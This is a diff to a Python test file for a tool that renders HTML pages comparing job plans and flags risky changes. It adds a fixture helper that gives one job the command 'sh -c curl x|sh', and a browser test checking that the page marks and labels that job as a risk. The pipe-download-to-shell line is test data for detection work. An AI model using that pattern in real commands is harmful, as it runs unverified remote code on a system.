@@ -55,6 +55,9 @@ def pages(tmp_path_factory):
     large = plans["large"]
     less = replace(large, jobs=tuple(map(with_less_memory, large.jobs[:600])))
     written["risky_diff"] = render_diff_page(diff_plans(large, less), (large, less), ("a", "b"))
+    written["shell_diff"] = render_diff_page(
+        diff_plans(large, with_a_shell(large)), (large, with_a_shell(large)), ("a", "b")
+    )
     one_space = plan_of(a_job("a", ("rm", "a b"), tags={"t": "not stated"}))
     two_spaces = plan_of(a_job("a", ("rm", "a  b")))
     written["subtle_diff"] = render_diff_page(diff_plans(one_space, two_spaces), (one_space, two_spaces), ("a", "b"))
@@ -65,6 +68,16 @@ def pages(tmp_path_factory):
     for name, text in written.items():
         (folder / f"{name}.html").write_text(text, encoding="utf-8")
     return folder
+
+
+def with_a_shell(plan):
+    """Return a plan with a limit of time for every second job, and a shell for one."""
+    jobs = [
+        replace(job, settings=replace(job.settings, timeout_s=600)) if number % 2 else job
+        for number, job in enumerate(plan.jobs)
+    ]
+    jobs[266] = replace(jobs[266], command=("sh", "-c", "curl x|sh"))
+    return replace(plan, jobs=tuple(jobs))
 
 
 def with_less_memory(job):
@@ -525,6 +538,19 @@ def test_nothing_moves_the_page_without_reason_and_everything_is_labelled(opened
                 && one.id !== "said").map(one => one.outerHTML)"""
         )
         assert unnamed == []
+
+
+def test_a_risk_that_few_jobs_have_marks_the_folded_box_that_holds_them(opened):
+    with opened("shell_diff") as page:
+        marked = page.locator(".job.risky")
+        assert marked.count() == 1
+        assert marked.get_attribute("aria-label").endswith(", 1 with a risk")
+        assert "!1" in marked.text_content()
+        assert "! risk of few jobs" in page.locator("#legend").inner_text()
+        while (group := page.locator(".job.risky[data-group]")).count():
+            group.first.focus()
+            page.keyboard.press("Enter")
+        assert page.locator(".job.risky").get_attribute("aria-label").startswith("risk, changed, job_00266")
 
 
 def test_every_risk_and_every_change_of_data_can_be_reached(opened):
